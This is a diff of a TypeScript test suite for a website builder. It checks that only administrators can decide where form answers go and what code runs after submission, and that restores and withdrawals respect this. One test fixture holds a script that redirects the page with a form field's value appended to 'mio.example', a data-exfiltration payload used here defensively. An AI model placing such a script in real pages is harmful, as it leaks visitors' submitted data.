@@ -50,7 +50,7 @@ describe.each(ENGINES)('where forms lead, for who may not change settings, on %s
       expect.objectContaining({
         reason: 'guarded_setting',
         error:
-          'A chi arrivano le risposte di un modulo lo decide chi amministra il sito: tu puoi cambiare il resto del modulo.',
+          'A chi arrivano le risposte di un modulo, e quale codice segue l’invio, lo decide chi amministra il sito: tu puoi cambiare il resto del modulo.',
       }),
     ])
 
@@ -75,6 +75,23 @@ describe.each(ENGINES)('where forms lead, for who may not change settings, on %s
     refused(await change(bea, id, [back]))
     expect((await change(ada, id, [{ ...back, block: stolen }])).status).toBe(200)
     expect((await change(ada, id, [{ op: 'update', id: block.id, props: { webhook: HOOK } }])).status).toBe(200)
+  })
+
+  test('the code after a form runs in its page with the answers: it is the admin’s, for newsletters too', async () => {
+    const html =
+      '<p>Grazie!</p><script>location = "https://mio.example/?" + document.forms[0].elements[0].value</script>'
+    const newsletter = { id: newId(), type: 'newsletter', version: 1, props: {} }
+    for (const block of [form({ emails: [ADA] }), newsletter]) {
+      const id = await ada.create({ urlId: `dopo-${++pages}`, blocks: [section(block)] })
+      const update = (who: SiteWriter, props: object) => change(who, id, [{ op: 'update', id: block.id, props }])
+      refused(await update(bea, { after: 'html', html }))
+      expect((await update(bea, { after: 'message' })).status).toBe(200)
+      expect((await update(ada, { after: 'html', html })).status).toBe(200)
+      refused(await update(bea, { html: '' }))
+      const blocks = [section({ ...block, id: newId(), props: { ...block.props, after: 'html', html } })]
+      const copy = await bea.create({ urlId: `dopo-${++pages}`, blocks })
+      expect(JSON.stringify((await draftOf(copy)).content)).not.toContain('mio.example')
+    }
   })
 
   test('a new form, a copy and a pasted one lead to an admin or nowhere', async () => {
@@ -121,6 +138,29 @@ describe.each(ENGINES)('where forms lead, for who may not change settings, on %s
     expect(await targetsOf(id)).toEqual([[[ADA], HOOK]])
     expect((await ada.call('POST', `/documents/${id}/revisions/${version}/restoration`)).status).toBe(200)
     expect(await targetsOf(id)).toEqual([[[BEA], 'https://mio.example']])
+  })
+
+  test('a restored version does not bring back what the admin replaced before removing the form', async () => {
+    const { id, block, column } = await page({ emails: [BEA], webhook: 'https://mio.example' })
+    expect((await ada.publish(id)).status).toBe(200)
+    const [first] = (await ada.call('GET', `/documents/${id}/revisions`)).json().revisions
+    await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [ADA], webhook: '' } }])
+    expect((await change(ada, id, [{ op: 'remove', id: block.id }])).status).toBe(200)
+    expect((await ada.publish(id)).status).toBe(200)
+    refused(await change(bea, id, [{ op: 'insert', parent: column, before: null, block }]))
+    const restored = await bea.call('POST', `/documents/${id}/revisions/${first.id}/restoration`)
+    expect(restored.status, restored.body).toBe(200)
+    expect(await targetsOf(id)).toEqual([[[ADA], '']])
+    // Nor what they took away from it, whoever removes the form.
+    await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [] } }])
+    expect((await change(bea, id, [{ op: 'remove', id: block.id }])).status).toBe(200)
+    await bea.call('POST', `/documents/${id}/revisions/${first.id}/restoration`)
+    expect(await targetsOf(id)).toEqual([[[], '']])
+    // The version before a removal stays in the history, once.
+    expect((await change(ada, id, [{ op: 'remove', id: block.id }])).status).toBe(200)
+    const { revisions } = (await ada.call('GET', `/documents/${id}/revisions`)).json()
+    const names = revisions.map(({ name }: { name: string | null }) => name).filter(Boolean)
+    expect(names).toEqual(Array(2).fill('Prima di eliminare un modulo'))
   })
 
   test('new pages, kept sections and the templates of the product lead to an admin or nowhere', async () => {
@@ -172,8 +212,44 @@ describe.each(ENGINES)('where forms lead, for who may not change settings, on %s
     const answer = await withdraw(bea)
     expect([answer.status, answer.json().error]).toEqual([
       403,
-      'Annullare questa pubblicazione cambierebbe anche a chi arrivano le risposte di un modulo. Può farlo solo un amministratore.',
+      'Annullare questa pubblicazione cambierebbe anche a chi arrivano le risposte di un modulo, o il codice che segue l’invio. Può farlo solo un amministratore.',
     ])
     expect((await withdraw(ada)).status).toBe(200)
+  })
+
+  describe('a withdrawal that puts a form online again', () => {
+    const theirs = { emails: [BEA], webhook: 'https://mio.example' }
+    const withdraw = (who: SiteWriter, answer: { json(): { publishRevision: number } }) =>
+      who.call('POST', `/publications/${answer.json().publishRevision}/withdrawal`)
+    const without = async (who: SiteWriter, id: string, blockId: string) => {
+      await change(who, id, [{ op: 'remove', id: blockId }])
+      return await who.publish(id)
+    }
+
+    test('is an admin’s if the form was removed and leads to others', async () => {
+      const { id, block } = await page(theirs)
+      await ada.publish(id)
+      const removal = await without(ada, id, block.id)
+      expect((await withdraw(bea, removal)).status).toBe(403)
+      expect((await withdraw(ada, removal)).status).toBe(200)
+    })
+
+    test('is an admin’s if the page is not online and its draft leads elsewhere by now', async () => {
+      const { id, block } = await page(theirs)
+      const taken = await withdraw(ada, await ada.publish(id))
+      expect(taken.status, taken.body).toBe(200)
+      await change(ada, id, [{ op: 'update', id: block.id, props: { emails: [ADA] } }])
+      expect((await withdraw(bea, taken)).status).toBe(403)
+      expect((await withdraw(ada, taken)).status).toBe(200)
+    })
+
+    test('is an editor’s if the form leads to an admin, or as the draft that they may publish does', async () => {
+      const ours = await page({ emails: [ADA], webhook: '' })
+      await ada.publish(ours.id)
+      expect((await withdraw(bea, await without(bea, ours.id, ours.block.id))).status).toBe(200)
+      const other = await page(theirs)
+      const taken = await withdraw(bea, await bea.publish(other.id))
+      expect((await withdraw(bea, taken)).status).toBe(200)
+    })
   })
 })
